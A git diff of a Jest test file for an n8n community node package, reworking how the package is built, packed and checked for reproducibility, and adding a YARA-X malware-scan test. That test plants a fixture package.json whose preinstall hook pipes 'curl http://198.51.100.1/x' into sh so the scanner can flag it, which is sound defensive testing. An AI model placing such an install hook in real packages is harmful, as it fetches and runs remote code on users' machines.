@@ -2,7 +2,6 @@ import { execFileSync, spawnSync } from 'node:child_process';
 import {
   cpSync,
   existsSync,
-  mkdirSync,
   mkdtempSync,
   readdirSync,
   readFileSync,
@@ -20,29 +19,12 @@ import { startServer } from '../../support/server.ts';
 
 const ROOT = join(__dirname, '../../..');
 
-/** What a package is made of, and what must not get into it. */
-const SOURCES = [
-  'package.json',
-  'tsconfig.json',
-  'gulpfile.js',
-  'index.js',
-  'README.md',
-  'LICENSE.md',
-  'CHANGELOG.md',
-  'CONTRIBUTING.md',
-  'nodes',
-  'credentials',
-  'test/support',
-  'docs',
-  'examples',
-  '.gitignore',
-];
-
 interface Manifest {
   name: string;
   dependencies?: object;
   peerDependencies: object;
   scripts: Record<string, string>;
+  devDependencies: Record<string, string>;
   keywords: string[];
   files: string[];
   n8n: { nodes: string[]; credentials: string[] };
@@ -54,45 +36,48 @@ interface Manifest {
 const { NODE_ENV: _env, JEST_WORKER_ID: _id, NO_COLOR: _color, ...env } = process.env;
 
 let folder: string;
+let tarball: string;
 let unpacked: string;
 let packed: string[];
 let manifest: Manifest;
 
-/** `npm run test:release` has built it just now; whoever runs Jest alone may have an old one. */
-function isDistNew(): boolean {
-  const script = "import('./scripts/build.mjs').then(({ isBuilt }) => process.exit(isBuilt() ? 0 : 1))";
-  return spawnSync(process.execPath, ['-e', script], { cwd: ROOT }).status === 0;
+/** Writes the tree that is published, builds it and packs it; returns the tarball. */
+function publish(name: string): string {
+  const tree = join(folder, name);
+  execFileSync(process.execPath, ['scripts/publication.mjs', tree], { cwd: ROOT, stdio: 'pipe' });
+  symlinkSync(join(ROOT, 'node_modules'), join(tree, 'node_modules'));
+  execFileSync('npm', ['run', 'build'], { cwd: tree, env, stdio: 'pipe' });
+  return pack(tree);
 }
 
-/** Builds, unless that is done, and packs as for publishing, in a copy: `dist` may be in use. */
+/** Packs the package in a folder into that of the tests. */
+function pack(source: string): string {
+  const into = mkdtempSync(join(folder, 'tarball-'));
+  execFileSync('npm', ['pack', '--ignore-scripts', '--silent', '--pack-destination', into], {
+    cwd: source,
+    stdio: 'pipe',
+  });
+  return join(into, readdirSync(into)[0] ?? '');
+}
+
+function unpack(tarball: string): string {
+  const into = mkdtempSync(join(folder, 'unpacked-'));
+  execFileSync('tar', ['-xzf', tarball, '-C', into, '--strip-components=1']);
+  return into;
+}
+
+const filesIn = (place: string): string[] =>
+  readdirSync(place, { recursive: true, encoding: 'utf8' })
+    .filter((file) => statSync(join(place, file)).isFile())
+    .sort();
+
 beforeAll(() => {
   folder = mkdtempSync(join(tmpdir(), 'packed-'));
   // What n8n gives every community package.
   symlinkSync(join(ROOT, 'node_modules'), join(folder, 'node_modules'));
-  const copy = join(folder, 'copy');
-  mkdirSync(copy);
-  symlinkSync(join(ROOT, 'node_modules'), join(copy, 'node_modules'));
-  for (const name of SOURCES)
-    if (existsSync(join(ROOT, name))) cpSync(join(ROOT, name), join(copy, name), { recursive: true });
-  if (isDistNew()) cpSync(join(ROOT, 'dist'), join(copy, 'dist'), { recursive: true });
-  else execFileSync(process.execPath, ['node_modules/gulp/bin/gulp.js', 'build'], { cwd: copy, stdio: 'pipe' });
-  execFileSync('npm', ['pack', '--ignore-scripts', '--silent', '--pack-destination', folder], {
-    cwd: copy,
-    stdio: 'pipe',
-  });
-  execFileSync('tar', [
-    '-xzf',
-    join(
-      folder,
-      readdirSync(folder).find((file) => file.endsWith('.tgz'))!,
-    ),
-    '-C',
-    folder,
-  ]);
-  unpacked = join(folder, 'package');
-  packed = readdirSync(unpacked, { recursive: true, encoding: 'utf8' })
-    .filter((file) => statSync(join(unpacked, file)).isFile())
-    .sort();
+  tarball = publish('tree');
+  unpacked = unpack(tarball);
+  packed = filesIn(unpacked);
   manifest = JSON.parse(readFileSync(join(unpacked, 'package.json'), 'utf8')) as Manifest;
 });
 afterAll(() => rmSync(folder, { recursive: true, force: true }));
@@ -109,16 +94,49 @@ test('the package is dist, its manifest and its documents, and nothing else', ()
   expect(packed.filter((file) => !/\.(js|json|svg|md)$/.test(file))).toEqual([]);
 });
 
+test('a second tree gives the same tarball to the byte', () => {
+  expect(readFileSync(publish('second')).equals(readFileSync(tarball))).toBe(true);
+});
+
+test('the whole repository packs the same files to the byte, but for the manifest of all its parts', () => {
+  const whole = unpack(pack(ROOT));
+  expect(filesIn(whole)).toEqual(packed);
+  const differs = (file: string): boolean =>
+    !readFileSync(join(whole, file)).equals(readFileSync(join(unpacked, file)));
+  expect(packed.filter(differs)).toEqual(['package.json']);
+  const { workspaces: _workspaces, ...own } = JSON.parse(readFileSync(join(whole, 'package.json'), 'utf8')) as Manifest;
+  const [{ scripts: all, devDependencies: tools, ...rest }, { scripts, devDependencies, ...published }] = [
+    own,
+    manifest,
+  ];
+  expect(published).toEqual(rest);
+  expect(tools).toMatchObject(devDependencies);
+  expect(Object.keys(all)).toEqual(expect.arrayContaining(Object.keys(scripts)));
+});
+
+test('the tree holds one package, and what its lock file lists is what this repository is built with', () => {
+  const tree = join(folder, 'tree');
+  const files = filesIn(tree).filter((file) => !/^(node_modules|dist)\b/.test(file));
+  expect(files.filter((file) => file.endsWith('package.json'))).toEqual(['package.json']);
+  const entriesOf = (place: string) =>
+    (JSON.parse(readFileSync(join(place, 'package-lock.json'), 'utf8')) as { packages: Record<string, object> })
+      .packages;
+  const { '': own, ...installed } = entriesOf(tree);
+  expect(own).toMatchObject({ devDependencies: manifest.devDependencies });
+  expect(Object.keys(installed)).toContain('node_modules/typescript');
+  const versionsIn = (entries: Record<string, object>) =>
+    Object.fromEntries(Object.keys(installed).map((path) => [path, (entries[path] as { version: string }).version]));
+  expect(versionsIn(installed)).toEqual(versionsIn(entriesOf(ROOT)));
+});
+
 test('the package is small', () => {
-  const [tarball] = readdirSync(folder).filter((file) => file.endsWith('.tgz'));
-  expect(statSync(join(folder, tarball!)).size).toBeLessThan(200_000);
+  expect(statSync(tarball).size).toBeLessThan(200_000);
 });
 
 test("the README's command to install it brings nothing beside it that would take the place of n8n's own packages", () => {
   const [command = ''] = /npm install [^`]*(?=<the .tgz>)/.exec(readFileSync(join(ROOT, 'README.md'), 'utf8')) ?? [];
-  const [tarball = ''] = readdirSync(folder).filter((file) => file.endsWith('.tgz'));
   const nodes = mkdtempSync(join(tmpdir(), 'nodes-'));
-  execFileSync('sh', ['-c', `${command} --offline "$0"`, join(folder, tarball)], { cwd: nodes, env, stdio: 'pipe' });
+  execFileSync('sh', ['-c', `${command} --offline "$0"`, tarball], { cwd: nodes, env, stdio: 'pipe' });
   const installed = readdirSync(join(nodes, 'node_modules')).filter((name) => !name.startsWith('.'));
   expect(installed).toEqual(['n8n-nodes-document-processing']);
   rmSync(nodes, { recursive: true, force: true });
@@ -200,13 +218,13 @@ test('what is packed requires only what n8n gives', () => {
 
 /** The command-line tools with which n8n checks a package, a project of their own. */
 const TOOLS = join(ROOT, 'test/verification/node_modules');
-const CHECKED = ['package.json', 'tsconfig.json', 'eslint.config.mjs', 'nodes', 'credentials'];
 
-/** What n8n looks at of the source: not what tests it. */
+/** What n8n looks at of the source. */
 function sourceOfPackage(): string {
   const source = mkdtempSync(join(folder, 'source-'));
+  const isOfTree = (path: string): boolean => !/\/tree\/(node_modules|dist)$/.test(path);
+  cpSync(join(folder, 'tree'), source, { recursive: true, filter: isOfTree });
   symlinkSync(TOOLS, join(source, 'node_modules'));
-  for (const name of CHECKED) cpSync(join(ROOT, name), join(source, name), { recursive: true });
   return source;
 }
 
@@ -237,6 +255,56 @@ const results = [
   await analyzePackage(bad, SOURCE_FILE_PATTERNS),
 ];
 console.log(JSON.stringify(results));
+`;
+
+/** The `.yar` files that n8n's newest scanner has in its repository and no package of this registry: release.yml gets them. */
+const MALWARE_RULES = process.env['MALWARE_RULES'];
+
+(MALWARE_RULES ? test : test.skip)(
+  'no rule of malware finds a threat in what is packed, and one where there is',
+  () => {
+    const bad = mkdtempSync(join(folder, 'bad-'));
+    writeFileSync(join(bad, 'package.json'), '{ "scripts": { "preinstall": "curl http://198.51.100.1/x | sh" } }');
+    const output = execFileSync(
+      process.execPath,
+      ['--input-type=module', '-e', MALWARE_SCAN, '--', TOOLS, MALWARE_RULES ?? '', unpacked, bad],
+      { encoding: 'utf8', stdio: 'pipe', env },
+    );
+    expect(JSON.parse(output)).toEqual([[], expect.arrayContaining(['package.json threat_npm_preinstall_script'])]);
+  },
+);
+
+// A rule says in its metadata which files it is for, by patterns for the paths in a tarball. A rule that is no threat says
+// what code is able to do.
+const MALWARE_SCAN = `
+import { readdirSync, readFileSync, statSync } from 'node:fs';
+import { join } from 'node:path';
+const [tools, rules, ...places] = process.argv.slice(1);
+const yara = join(tools, '@virustotal/yara-x/pkg');
+const { default: init, Compiler } = await import(join(yara, 'yara_x_js.js'));
+await init({ module_or_path: readFileSync(join(yara, 'yara_x_js_bg.wasm')) });
+const compiler = new Compiler();
+const textOf = (file) => readFileSync(join(rules, file), 'utf8');
+for (const file of readdirSync(rules).filter((name) => name.endsWith('.yar')))
+  compiler.addSource(textOf(file).replace(/^include\\s+"([^"]+)"\\s*$/gm, (_, name) => textOf(name)));
+const compiled = compiler.build();
+const isLike = (path) => (pattern) =>
+  new RegExp('^' + pattern.trim().split('*').map((part) => RegExp.escape(part)).join('.*') + '$').test(path);
+const isFor = ({ metadata }, path) => {
+  const { path_include: included, path_exclude: excluded } =
+    Object.fromEntries(metadata.map(({ identifier, value }) => [identifier, value]));
+  const isAny = (patterns) => patterns.split(',').some(isLike(path));
+  return (!included || isAny(included)) && !(excluded && isAny(excluded));
+};
+const threatsIn = (place) =>
+  readdirSync(place, { recursive: true })
+    .filter((file) => statSync(join(place, file)).isFile())
+    .flatMap((file) =>
+      compiled
+        .scan(readFileSync(join(place, file)))
+        .matches.filter((match) => match.identifier.startsWith('threat_') && isFor(match, 'package/' + file))
+        .map(({ identifier }) => file + ' ' + identifier));
+console.log(JSON.stringify(places.map(threatsIn)));
 `;
 
 const lint = (source: string) =>
